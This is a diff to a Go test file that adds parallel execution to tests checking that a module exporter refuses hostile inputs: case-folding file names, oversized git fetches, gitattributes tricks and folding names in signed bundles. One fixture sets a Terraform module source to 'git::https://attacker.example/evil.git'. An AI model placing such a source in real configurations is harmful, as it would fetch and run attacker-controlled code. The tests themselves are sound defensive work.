@@ -96,6 +96,7 @@ func commitAll(t *testing.T, work string, files map[string]string) {
 // recorded, and on a Mac "override.tf" would merge into the vendored
 // "Modules/net" and send it back to the attacker's repository.
 func TestHostileFoldingNames(t *testing.T) {
+	t.Parallel()
 	w := newExportWorld(t)
 	const override = "module \"x\" {\n  source = \"git::https://attacker.example/evil.git\"\n}\n"
 	good := "module \"net\" {\n  source = \"./Modules/net\"\n}\n"
@@ -159,6 +160,7 @@ func checkRefused(t *testing.T, out string, err error, want []string) {
 // machine's disk for the whole git timeout). With the default limit the
 // same module exports, so the limit is what stops it.
 func TestHostileGitFetchSize(t *testing.T) {
+	t.Parallel()
 	w := newExportWorld(t)
 	w.bareRepo(t, "evil/hidden", func(work string) { commitAll(t, work, map[string]string{"main.tf": "# small\n"}) })
 	bare := filepath.Join(w.in.GitRoot, "evil/hidden.git")
@@ -186,6 +188,7 @@ func TestHostileGitFetchSize(t *testing.T) {
 // archive holds each blob's bytes as committed (checkout used to write 4×
 // the bytes the tree check had counted).
 func TestHostileGitAttributesExport(t *testing.T) {
+	t.Parallel()
 	w := newExportWorld(t)
 	body := strings.Repeat("# a line of configuration\n", 2048)
 	w.bareRepo(t, "evil/attrs", func(work string) {
@@ -246,6 +249,7 @@ func moduleFiles(t *testing.T, path, keyring string) map[string]string {
 // names that fold (as an older or hostile exporter would write it), validly
 // signed, is refused at the transfer station and by import.
 func TestHostileFoldingNamesInBundle(t *testing.T) {
+	t.Parallel()
 	w := harness.NewHostileWorld(t)
 	p := filepath.Join(w.Work, "fold.tar.gz")
 	bundletest.WriteModuleArchive(t, p, map[string]string{"Modules/net/main.tf": "# net\n", "modules/net/override.tf": "# evil\n"})
